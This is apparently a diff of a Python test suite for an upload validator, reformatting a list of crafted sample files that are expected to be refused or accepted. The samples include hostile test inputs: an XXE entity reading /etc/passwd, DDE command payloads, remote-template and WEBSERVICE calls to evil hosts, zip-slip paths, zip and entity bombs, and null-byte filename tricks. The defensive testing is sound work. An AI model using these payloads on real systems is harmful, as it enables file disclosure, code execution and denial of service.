@@ -268,8 +268,13 @@ def document(extra: dict[str, bytes | str] | None = None, body: str = "<w:p/>", 
     """A small Word document, with parts added or changed."""
     main = content_type or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
     members: dict[str, bytes | str] = {
-        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
-        "_rels/.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE_RELS}/officeDocument" Target="word/document.xml"/></Relationships>',
+        "[Content_Types].xml": (
+            f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
+        ),
+        "_rels/.rels": (
+            f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE_RELS}/officeDocument"'
+            ' Target="word/document.xml"/></Relationships>'
+        ),
         "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
     }
     return archive(members | (extra or {}))
@@ -316,13 +321,16 @@ def lying_archive() -> bytes:
 
 def entity_document(reference: str) -> bytes:
     """A document whose text is an entity."""
-    xml = f'<?xml version="1.0"?><!DOCTYPE a [{reference}]><w:document xmlns:w="{WORD}"><w:body>&b;</w:body></w:document>'
+    xml = (
+        f'<?xml version="1.0"?><!DOCTYPE a [{reference}]><w:document xmlns:w="{WORD}"><w:body>&b;</w:body></w:document>'
+    )
     return document({"word/document.xml": xml})
 
 
 def utf16_entities() -> bytes:
     """The same, hidden in another encoding."""
-    xml = f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><w:document xmlns:w="{WORD}">&b;</w:document>'
+    head = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]>'
+    xml = f'{head}<w:document xmlns:w="{WORD}">&b;</w:document>'
     return document({"word/document.xml": xml.encode("utf-16")})
 
 
@@ -346,7 +354,12 @@ SAMPLES = [
     Sample("real webp", "photo.webp", lambda: picture("WEBP"), "taken"),
     Sample("real docx", "letter.docx", document, "taken"),
     Sample("real xlsx", "list.xlsx", workbook, "taken"),
-    Sample("docx with web link", "letter.docx", lambda: document({"word/_rels/document.xml.rels": relations("hyperlink", "https://example.com")}), "taken"),
+    Sample(
+        "docx with web link",
+        "letter.docx",
+        lambda: document({"word/_rels/document.xml.rels": relations("hyperlink", "https://example.com")}),
+        "taken",
+    ),
     Sample("xlsx with sum", "list.xlsx", lambda: workbook("=SUM(B1:B3)"), "taken"),
     Sample("real csv", "list.csv", lambda: "name;amount\nMüller;-1.234,50\n".encode(), "taken"),
     Sample("csv in latin1", "list.csv", lambda: "name;amount\nMüller;+12\n".encode("latin-1"), "taken"),
@@ -358,9 +371,21 @@ SAMPLES = [
     Sample("html as csv", "proof.csv", lambda: PAGE, "refused", "core.upload.content"),
     Sample("html", "proof.html", lambda: PAGE, "refused", "core.upload.type"),
     Sample("svg plain", "logo.svg", lambda: SVG % b"", "refused", "core.upload.type"),
-    Sample("svg with script as png", "logo.png", lambda: SVG % b"<script>alert(1)</script>", "refused", "core.upload.content"),
+    Sample(
+        "svg with script as png",
+        "logo.png",
+        lambda: SVG % b"<script>alert(1)</script>",
+        "refused",
+        "core.upload.content",
+    ),
     Sample("svg with page as csv", "logo.csv", lambda: SVG % b"<foreignObject/>", "refused", "core.upload.content"),
-    Sample("svg with entity as jpg", "logo.jpg", lambda: b"<!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG % b"&a;", "refused", "core.upload.content"),
+    Sample(
+        "svg with entity as jpg",
+        "logo.jpg",
+        lambda: b"<!DOCTYPE svg [<!ENTITY a 'b'>]>" + SVG % b"&a;",
+        "refused",
+        "core.upload.content",
+    ),
     Sample("xml as csv", "a.csv", lambda: b"<?xml version='1.0'?><a/>", "refused", "core.upload.content"),
     Sample("program as pdf", "a.pdf", lambda: b"MZ" + bytes(500), "refused", "core.upload.content"),
     # PDF that acts
@@ -379,7 +404,9 @@ SAMPLES = [
     Sample("pdf cut off", "a.pdf", lambda: pdf()[:150], "refused"),
     Sample("pdf head only", "a.pdf", lambda: b"%PDF-1.7\n%%EOF", "refused", "core.upload.broken"),
     # two things at once
-    Sample("pdf and html", "a.pdf", lambda: b"%PDF-1.4\n<html><script>1</script>" + pdf(), "refused", "core.upload.content"),
+    Sample(
+        "pdf and html", "a.pdf", lambda: b"%PDF-1.4\n<html><script>1</script>" + pdf(), "refused", "core.upload.content"
+    ),
     Sample("pdf with html tail", "a.pdf", lambda: pdf() + PAGE, "refused", "core.upload.content"),
     Sample("pdf with zip tail", "a.pdf", lambda: pdf() + document(), "refused", "core.upload.content"),
     Sample("html before pdf", "a.pdf", lambda: PAGE + pdf(), "refused", "core.upload.content"),
@@ -393,36 +420,134 @@ SAMPLES = [
     # archives
     Sample("zip", "a.zip", lambda: archive({"a.txt": "b"}), "refused", "core.upload.type"),
     Sample("zip as docx", "a.docx", lambda: archive({"a.txt": "b"}), "refused", "core.upload.content"),
-    Sample("zip bomb", "a.docx", lambda: document({"word/media/a.png": bytes(149_000_000)}), "refused", "core.upload.bomb"),
-    Sample("many members", "a.docx", lambda: document({f"word/media/{n}.png": b"" for n in range(3_100)}), "refused", "core.upload.bomb"),
+    Sample(
+        "zip bomb", "a.docx", lambda: document({"word/media/a.png": bytes(149_000_000)}), "refused", "core.upload.bomb"
+    ),
+    Sample(
+        "many members",
+        "a.docx",
+        lambda: document({f"word/media/{n}.png": b"" for n in range(3_100)}),
+        "refused",
+        "core.upload.bomb",
+    ),
     Sample("lying directory", "a.docx", lying_archive, "refused"),
-    Sample("nested zip", "a.docx", lambda: document({"word/media/a.png": archive({"b": "c"})}), "refused", "core.upload.active"),
+    Sample(
+        "nested zip",
+        "a.docx",
+        lambda: document({"word/media/a.png": archive({"b": "c"})}),
+        "refused",
+        "core.upload.active",
+    ),
     Sample("zip slip", "a.docx", lambda: document({"../../etc/cron.d/x": "x"}), "refused", "core.upload.content"),
-    Sample("zip with absolute path", "a.docx", lambda: document({"/etc/cron.d/x": "x"}), "refused", "core.upload.content"),
+    Sample(
+        "zip with absolute path", "a.docx", lambda: document({"/etc/cron.d/x": "x"}), "refused", "core.upload.content"
+    ),
     Sample("symlink zip", "a.docx", symlink_archive, "refused", "core.upload.content"),
     # office documents that act
     Sample("docm as docx", "a.docx", lambda: document(content_type=MACRO_TYPE), "refused", "core.upload.active"),
     Sample("docm", "a.docm", lambda: document(content_type=MACRO_TYPE), "refused", "core.upload.type"),
     Sample("macro part", "a.docx", lambda: document({"word/vbaProject.bin": b"x"}), "refused", "core.upload.active"),
-    Sample("xlsx macro sheet", "a.xlsx", lambda: workbook(extra={"xl/macrosheets/sheet1.xml": "<a/>"}), "refused", "core.upload.active"),
-    Sample("remote template", "a.docx", lambda: document({"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm")}), "refused", "core.upload.active"),
-    Sample("picture from outside", "a.docx", lambda: document({"word/_rels/document.xml.rels": relations("image", "https://evil.example/a.png")}), "refused", "core.upload.active"),
-    Sample("script link", "a.docx", lambda: document({"word/_rels/document.xml.rels": relations("hyperlink", "javascript:alert(1)")}), "refused", "core.upload.active"),
-    Sample("share link", "a.xlsx", lambda: workbook(extra={SHEET_REL: relations("hyperlink", "file://server/share")}), "refused", "core.upload.active"),
-    Sample("embedded program", "a.docx", lambda: document({"word/embeddings/oleObject1.bin": b"x"}), "refused", "core.upload.active"),
-    Sample("embedded workbook with formula", "a.docx", lambda: document({"word/embeddings/a.xlsx": workbook("=WEBSERVICE(\"http://evil\")")}), "refused", "core.upload.active"),
+    Sample(
+        "xlsx macro sheet",
+        "a.xlsx",
+        lambda: workbook(extra={"xl/macrosheets/sheet1.xml": "<a/>"}),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "remote template",
+        "a.docx",
+        lambda: document(
+            {"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/a.dotm")}
+        ),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "picture from outside",
+        "a.docx",
+        lambda: document({"word/_rels/document.xml.rels": relations("image", "https://evil.example/a.png")}),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "script link",
+        "a.docx",
+        lambda: document({"word/_rels/document.xml.rels": relations("hyperlink", "javascript:alert(1)")}),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "share link",
+        "a.xlsx",
+        lambda: workbook(extra={SHEET_REL: relations("hyperlink", "file://server/share")}),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "embedded program",
+        "a.docx",
+        lambda: document({"word/embeddings/oleObject1.bin": b"x"}),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "embedded workbook with formula",
+        "a.docx",
+        lambda: document({"word/embeddings/a.xlsx": workbook('=WEBSERVICE("http://evil")')}),
+        "refused",
+        "core.upload.active",
+    ),
     Sample("embedded workbook", "a.docx", lambda: document({"word/embeddings/a.xlsx": workbook()}), "taken"),
-    Sample("xlsx external link", "a.xlsx", lambda: workbook(extra={"xl/externalLinks/externalLink1.xml": "<a/>"}), "refused", "core.upload.active"),
+    Sample(
+        "xlsx external link",
+        "a.xlsx",
+        lambda: workbook(extra={"xl/externalLinks/externalLink1.xml": "<a/>"}),
+        "refused",
+        "core.upload.active",
+    ),
     Sample("xlsx dde", "a.xlsx", lambda: workbook("=cmd|'/c calc'!A1"), "refused", "core.upload.active"),
-    Sample("xlsx web query", "a.xlsx", lambda: workbook(extra={"xl/connections.xml": "<a/>"}), "refused", "core.upload.active"),
-    Sample("docx dde", "a.docx", lambda: document(body=split_field("DDEAUTO c:\\\\cmd.exe")), "refused", "core.upload.active"),
-    Sample("docx dde as entities", "a.docx", lambda: document(body=split_field("&#68;DEAUTO cmd")[:40].split("<w:r>")[0] + "<w:r><w:instrText>&#68;DEAUTO cmd</w:instrText></w:r></w:p>"), "refused", "core.upload.active"),
-    Sample("xxe", "a.docx", lambda: entity_document('<!ENTITY b SYSTEM "file:///etc/passwd">'), "refused", "core.upload.active"),
+    Sample(
+        "xlsx web query",
+        "a.xlsx",
+        lambda: workbook(extra={"xl/connections.xml": "<a/>"}),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "docx dde",
+        "a.docx",
+        lambda: document(body=split_field("DDEAUTO c:\\\\cmd.exe")),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "docx dde as entities",
+        "a.docx",
+        lambda: document(
+            body=split_field("&#68;DEAUTO cmd")[:40].split("<w:r>")[0]
+            + "<w:r><w:instrText>&#68;DEAUTO cmd</w:instrText></w:r></w:p>"
+        ),
+        "refused",
+        "core.upload.active",
+    ),
+    Sample(
+        "xxe",
+        "a.docx",
+        lambda: entity_document('<!ENTITY b SYSTEM "file:///etc/passwd">'),
+        "refused",
+        "core.upload.active",
+    ),
     Sample("billion laughs", "a.docx", lambda: entity_document(LAUGHS), "refused", "core.upload.active"),
     Sample("entities in utf-16", "a.docx", utf16_entities, "refused", "core.upload.active"),
     # pictures that explode or tell too much
     Sample("100 megapixel png", "a.png", lambda: huge_png(10_000), "refused", "core.upload.pixels"),
-    Sample("pixel flood header", "a.png", lambda: huge_png(10)[:16] + struct.pack(">II", 60_000, 60_000) + huge_png(10)[24:], "refused"),
+    Sample(
+        "pixel flood header",
+        "a.png",
+        lambda: huge_png(10)[:16] + struct.pack(">II", 60_000, 60_000) + huge_png(10)[24:],
+        "refused",
+    ),
     Sample("apng", "a.png", lambda: animated("PNG", 3), "defused"),
     Sample("gif of 10,000 frames", "a.gif", lambda: animated("GIF", 2) + bytes(10_000), "refused", "core.upload.type"),
     Sample("webp animation", "a.webp", lambda: animated("WEBP", 3), "defused"),
@@ -456,4 +581,14 @@ NAMES = {
     ".pdf": "pdf",
     "...": "file",
 }
-WRONG_ENDINGS = ["a.pdf.html", "a.pdf%00.html", "a.pdf\x00.html", "a.pdf ", "a.pdf.", "apdf", "a.pdf/x.exe", "a.php", "a.PDF.svg"]
+WRONG_ENDINGS = [
+    "a.pdf.html",
+    "a.pdf%00.html",
+    "a.pdf\x00.html",
+    "a.pdf ",
+    "a.pdf.",
+    "apdf",
+    "a.pdf/x.exe",
+    "a.php",
+    "a.PDF.svg",
+]
